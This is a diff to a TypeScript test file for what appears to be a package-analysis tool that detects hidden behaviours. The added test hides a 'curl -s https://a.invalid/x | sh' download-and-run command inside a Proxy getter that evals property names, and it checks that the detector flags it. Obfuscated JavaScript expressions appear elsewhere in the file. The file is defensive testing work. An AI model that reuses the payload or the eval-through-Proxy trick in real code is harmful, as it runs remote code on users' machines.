@@ -1,7 +1,7 @@
 import assert from 'node:assert/strict';
 import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
 import { packageOf } from '../../../../support/artifacts.js';
-import { flowsOf } from '../platform/sent.js';
+import { behavioursOf, flowsOf } from '../platform/sent.js';
 
 /** What a package says that sends a text of its own. */
 function sent(expression: string): string | undefined {
@@ -18,6 +18,15 @@ describe('members', () => {
     assert.equal(sent(`([]['entries']()+'')[3]`), 'j');
     assert.equal(sent(`('')['fontcolor']('"')[13]`), '&');
     assert.equal(sent(`[]['flat']['constructor']('return/0/')()['constructor']()+''`), '/(?:)/');
+  });
+
+  it('of an object that stands before another one are what it says', () => {
+    const run = (get: string) =>
+      behavioursOf(
+        `const p = new Proxy({}, { get: ${get} }); p['require("child_process").exec("curl -s https://a.invalid/x | sh")'];`,
+      );
+    assert.deepEqual(run('(_, name) => eval(name)'), ['download-and-run import']);
+    assert.deepEqual(run('(_, name) => name.length'), []);
   });
 
   it('say nothing of a text by its length', () => {
